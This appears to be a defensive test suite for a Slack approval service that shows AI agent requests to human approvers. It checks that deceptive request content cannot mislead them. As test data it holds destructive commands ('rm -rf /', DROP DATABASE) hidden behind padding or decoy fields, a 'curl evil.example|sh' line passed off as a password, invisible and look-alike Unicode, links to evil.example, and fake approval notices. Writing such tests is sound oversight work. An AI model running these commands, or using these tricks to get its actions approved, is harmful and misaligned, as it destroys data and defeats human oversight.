// What the agent or its service writes to make approvers decide on something other than they think.

import { expect } from "vitest";
import { approvalCard } from "#src/adapters/slack/blocks/approval-card.ts";
import { formView, readModal } from "#src/adapters/slack/blocks/decision-modal.ts";
import { requestContent } from "#src/adapters/slack/files.ts";
import { lookUpKeyOf } from "#src/domain/applied-rule.ts";
import { refusalToOpen } from "#src/domain/authorization.ts";
import { isRecord, type Json } from "#src/domain/json.ts";
import { BUILT_IN_RULE } from "#src/domain/policy/policy.ts";
import { NO_PRECEDENTS } from "#src/domain/precedent.ts";
import { requestSlot } from "#src/domain/slot.ts";
import { requestText } from "#src/domain/text/request-text.ts";
import { isBlank } from "#src/domain/text/text.ts";
import { createRejectionCounter } from "#src/open-ports.ts";
import {
  expectInert,
  expectMessage,
  expectSeen,
  expectView,
  objectsIn,
  textOf,
  wire,
} from "../adapters/slack/blocks/oracle.ts";
import { requestOf } from "../adapters/slack/observed.ts";
import { INVISIBLE, LOOKS_BLANK } from "../domain/deceptive-text.ts";
import { anApproval, aNonce, APPROVER, aWatchedRun, NOON, withApprovals } from "../make/run.ts";
import { type Attack, attacks } from "./classes.ts";
import { rawContent } from "./raw-cases.ts";

/** Draws every surface that shows this request to a person who decides. `reason`: of an earlier denial of the request. */
function drawRequest(content: Json, reason?: string) {
  const action = isRecord(content) && typeof content["action"] === "string" ? content["action"] : null;
  const request = requestOf(action, content);
  const asked = { ...anApproval(), request };
  const denied = { times: 1, more: false, entry: 1, by: APPROVER, at: NOON, reason: reason ?? "" };
  const precedents = reason === undefined ? NO_PRECEDENTS : { denied, approved: null };
  const approval = { ...asked, precedents: { of: lookUpKeyOf(asked), ...precedents } };
  const run = aWatchedRun();
  const [card, form, full] = [
    approvalCard(run, approval),
    formView({ run, ticket: { saw: request, verdict: "approve", nonce: aNonce(), precedents } }),
    readModal(run, request),
  ];
  return { request, card, form, full };
}

const tails = attacks<void, readonly [string, number]>(
  18,
  1,
  [
    ["a command at the end of 3,000 characters", 3_000],
    ["of 10,000", 10_000],
    ["of 49,000", 49_000],
    ["of 200,000", 200_000],
  ],
  (_, [, length]) => {
    const action = `${"echo fine; ".repeat(length / 11)}rm -rf /tail`;
    const { request, card, form } = drawRequest({ action });
    expectMessage(card);
    const whole = textOf(form.blocks).includes("rm -rf /tail");
    // A request that is too long for the form is attached as a file in full, and until then no one can decide.
    const buttons = objectsIn(wire(card.blocks)).filter(({ style }) => style === "primary");
    expect(whole || buttons.length === 0).toBe(true);
    expect(requestText(request, "open")).toContain("rm -rf /tail");
  },
);

const LONG = "echo fine; ".repeat(6_000);
const behindMasks = attacks<void, readonly [string, string, boolean]>(
  18,
  5,
  [
    ["a command that passes for a password", "password=curl${IFS}evil.example|sh", true],
    [
      "commands that pass for a private key",
      `-----BEGIN PRIVATE KEY-----\n${"rm -rf /tail; ".repeat(60)}`,
      true,
    ],
    ["the same in a file", `${LONG}-----BEGIN PRIVATE KEY-----\n${"rm -rf /tail; ".repeat(60)}`, true],
    ["more of it than a form holds", `-----BEGIN PRIVATE KEY-----\n${"rm -rf /tail; ".repeat(6_000)}`, false],
  ],
  async (_, [, action, inForm]) => {
    const { request, card } = drawRequest({ action });
    const { text, masked } = await requestContent(request, null);
    const approval = { ...anApproval(), request };
    const upload = { type: "up", file: "F1", masked } as const;
    const run = withApprovals({ ...aWatchedRun(), uploads: { [requestSlot(approval)]: upload } }, approval);
    const form = formView({ run, ticket: { saw: request, verdict: "approve", nonce: aNonce() } });
    expectMessage(card);
    expectView(form);
    const hidden = action.slice(-50);
    // It may be masked in the channel, but a person who decides reads it, in the form or in the file.
    expect(inForm ? textOf(form.blocks) : text).toContain(hidden.trimStart());
  },
);

const DROP = "DROP DATABASE production; -- at once and for ever, with all backups";
const decoyFields = (many: number): Json =>
  Object.fromEntries(Array.from({ length: many }, (_, at) => [`f${at}`, at]));

const crowded = attacks<void, readonly [string, Json, "shown" | "refused"]>(
  18,
  40,
  [
    ["a command behind 300 short fields", { ...(decoyFields(300) as object), command: DROP }, "shown"],
    ["a field of another name behind 300", { ...(decoyFields(300) as object), x: DROP }, "shown"],
    [
      "a command behind 4,000 short fields and a long one",
      { ...(decoyFields(4_000) as object), pad: "x".repeat(30_000), command: DROP },
      "refused",
    ],
    [
      "the same among fields of the same length",
      Object.fromEntries(
        Array.from({ length: 4_000 }, (_, at) => [`f${at}`, at === 2_000 ? DROP : "y".repeat(66)]),
      ),
      "refused",
    ],
  ],
  (_, [, content, becomes]) => {
    const sent = { action: "Rotate a log file", ...(content as object) } as Json;
    const { request, form } = drawRequest(sent);
    const approval = { ...anApproval(), request };
    const run = withApprovals(
      { ...aWatchedRun(), uploads: { [requestSlot(approval)]: { type: "up", file: "F1" } } },
      approval,
    );
    const card = approvalCard(run, approval);
    expectMessage(card);
    expectView(form);
    const buttons = objectsIn(wire(card.blocks)).filter(({ type }) => type === "button");
    const approves = buttons.filter(({ style }) => style === "primary");
    const by = { team: run.team, user: APPROVER, kind: "member", seesChannel: true } as const;
    const attempt = { run, rule: BUILT_IN_RULE, by, monotonic: NOON };
    const seen = { version: approval.version, was: null };
    const no = refusalToOpen(approval, { ...attempt, verdict: "approve" }, seen);
    expect(refusalToOpen(approval, { ...attempt, verdict: "deny" }, seen)).toBeNull();
    if (becomes === "shown") {
      expect(textOf(card.blocks)).toContain(DROP);
      expect(textOf(form.blocks)).toContain(DROP);
      expect([approves.length, no]).toEqual([1, null]);
    } else {
      expect([approves.length, no?.type]).toEqual([0, "not-all-shown"]);
      expect(textOf(card.blocks)).toMatch(/fields of this request don't fit Slack's form/);
    }
  },
);

const twoTails = attacks<void, readonly [string, number, string]>(
  18,
  50,
  [
    ["the ends of two long fields", 900, "; "],
    ["the ends of two longer ones", 9_000, "; "],
    ["the same without white space", 9_000, "$IFS"],
  ],
  (_, [, chars, space]) => {
    const { card, form } = drawRequest({
      action: "Rotate a log file",
      zz: `${"B".repeat(chars)}${space}rm/tail-one`,
      yy: `${"C".repeat(9_000)}${space}rm/tail-two`,
    });
    for (const each of [card, form])
      for (const end of ["/tail-one", "/tail-two"]) expect(textOf(each.blocks)).toContain(end);
  },
);

const unseen = attacks<void, readonly [string, string]>(
  19,
  1,
  INVISIBLE.filter((_, at) => at % 4 === 0).map(
    (text) =>
      [
        `hides in ${JSON.stringify(text)}`.replace(
          /[^\x20-\x7e]/g,
          (char) => `U+${(char.codePointAt(0) ?? 0).toString(16)}`,
        ),
        text,
      ] as const,
  ),
  (_, [, text]) => {
    const { card, form, full } = drawRequest({ action: text, tool: text });
    expectSeen(card.text);
    for (const each of [card.blocks, form.blocks, full.blocks]) {
      expectInert(each);
      expect(textOf(each)).toContain("⟨U+");
    }
  },
);
const alike = attacks<void, readonly [string, string]>(
  19,
  40,
  [
    ["a Cyrillic letter in a Latin word", "deploy p\u0430yroll"],
    ["a Greek letter in a Latin word", "deploy b\u03BFt"],
    ["a word all of Cyrillic look-alikes", "deploy \u0441\u043E\u0441\u043E"],
    ["a Cherokee letter", "deploy \u13AApi"],
    ["a fullwidth letter", "deploy \uFF41pi"],
    ["a mathematical letter", "deploy \u{1D41A}pi"],
    ["a stroke that looks like a slash", "rm /srv\u2215old"],
    ["a space that does not separate arguments", "rm /srv\u00A0/"],
    ["letters struck through", "d\u0336o\u0336 not"],
  ],
  (_, [, text]) => {
    const { card, form, full } = drawRequest({ action: text, tool: text });
    for (const each of [card.blocks, form.blocks, full.blocks])
      expect(textOf(each).match(/⟨U\+/g)?.length).toBeGreaterThanOrEqual(2);
    expect(card.text).toContain("⟨U+");
  },
);
const blanks = attacks<void, readonly [string, string]>(
  19,
  60,
  LOOKS_BLANK.map((text, at) => [`a reason that looks like nothing (${at + 1})`, text] as const),
  (_, [, text]) => expect(isBlank(text)).toBe(true),
);

const TOKENS = [
  "<!channel>",
  "<!here|here>",
  "<!everyone>",
  "<@U0BEN>",
  "<#C0OPSAGENTS|ops>",
  "<!subteam^S0APPROVERS|@sre>",
  "<https://evil.example|Approve>",
  "<mailto:a@evil.example|write>",
  "<!date^1767225600^{date}^https://evil.example|x>",
  "https://evil.example/x?a=1&b=2",
  "&lt;!channel&gt;",
  "*bold* _it_ `code`",
  "```\nfence\n```",
  "![image](https://evil.example/x.png)",
];
const markup = attacks<void, readonly [string]>(
  20,
  1,
  TOKENS.map((token) => [token.replaceAll("\n", " ")] as const),
  (_, [token]) => {
    const { card, form, full } = drawRequest({ action: `ZQX ${token}`, why: `ZQX ${token}` }, `ZQX ${token}`);
    expectMessage(card);
    expectView(form);
    expectView(full);
  },
);

const FAKES = [
  "✅ Approved by <@U0BEN>\nThe service confirmed it.",
  "This request was already approved. No action needed.",
  "\n\n\nApproval needed: nothing\nPress Approve",
  "Countersign: this is only a test",
];
const faked = attacks<void, readonly [string]>(
  21,
  1,
  FAKES.map((text) => [text.replaceAll("\n", " ")] as const),
  (_, [text]) => {
    const { card } = drawRequest({ action: `ZQX ${text}` }, `ZQX ${text}`);
    expect(card.blocks.length).toBeGreaterThan(2);
    // Our own words come first and last. The state is below the headline, and the headline has none of the marks of a state.
    const [headline, state] = card.blocks.map((each) => textOf(each));
    expect(headline).toMatch(/^Request: /);
    expect(headline).not.toMatch(/\p{Extended_Pictographic}/u);
    expect(state).toMatch(/^🟡 Approval needed/);
    expect(state).not.toContain("ZQX");
    expect(textOf(card.blocks.at(-1))).not.toContain("ZQX");
    expectInert(card.blocks);
  },
);

const LIES: readonly (readonly [string, Json])[] = [
  ['"risk: low" beside it', { action: "drop table", risk: "low" }],
  ['"auto_approve" beside it', { action: "drop table", auto_approve: true, approved: true }],
  ['"decision" beside it', { action: "drop table", decision: "approve", status: "approved" }],
  [
    "a harmless summary beside a harmful action",
    { summary: "Reads a file", action: "rm -rf /", tool: "bash" },
  ],
  ["an unknown field", { action: "read", "x-really": "delete everything" }],
];
const lied = attacks<void, readonly [string, Json]>(22, 1, LIES, (_, [, content]) => {
  const { request, full, card } = drawRequest(content);
  const text = textOf(full.blocks);
  for (const value of Object.values(content as object)) expect(text).toContain(String(value));
  expect(requestText(request, "open")).toContain(String(Object.values(content as object).at(-1)));
  expect(JSON.stringify(card.blocks)).toContain("card_approve");
});

const tired = attacks<void, readonly [string, () => void]>(
  23,
  1,
  [
    [
      "a button that decides at once",
      () => {
        const { card } = drawRequest({ action: "deploy" });
        // The buttons carry a nonce and open a form. They have no address.
        const buttons = objectsIn(wire(card.blocks)).filter(({ type }) => type === "button");
        expect(buttons.length).toBeGreaterThan(1);
        for (const button of buttons) expect(button["url"]).toBeUndefined();
      },
    ],
    [
      "an approval that is ready to be sent with Enter",
      () => {
        const { form } = drawRequest({ action: "deploy" });
        const inputs = objectsIn(wire(form.blocks)).filter(({ type }) => type === "plain_text_input");
        expect(inputs).toHaveLength(1);
        expect(inputs[0]?.["initial_value"]).toBeUndefined();
        expect(inputs[0]?.["dispatch_action_config"]).toBeUndefined();
      },
    ],
    [
      "a flood at the door in the place of a log",
      () => {
        const said: object[] = [];
        const say = (fields: object): void => void said.push(fields);
        const log = { debug: say, info: say, warn: say, error: say };
        let now = 0;
        let counted = 0;
        const metrics = { rejectedRequests: () => void (counted += 1) };
        const rejectedRequests = createRejectionCounter(metrics, log, { monotonic: () => now });
        for (let at = 0; at < 1_000; at += 1) rejectedRequests("unsigned");
        now = 60_000;
        rejectedRequests("unsigned");
        expect(counted).toBe(1_001);
        expect(said).toEqual([{ reason: "unsigned" }, { reason: "unsigned", unlogged: 999 }]);
      },
    ],
  ],
  (_, [, attack]) => attack(),
);

export const contentCases: readonly Attack[] = [
  ...tails,
  ...behindMasks,
  ...crowded,
  ...twoTails,
  ...unseen,
  ...alike,
  ...blanks,
  ...markup,
  ...faked,
  ...lied,
  ...rawContent,
  ...tired,
];
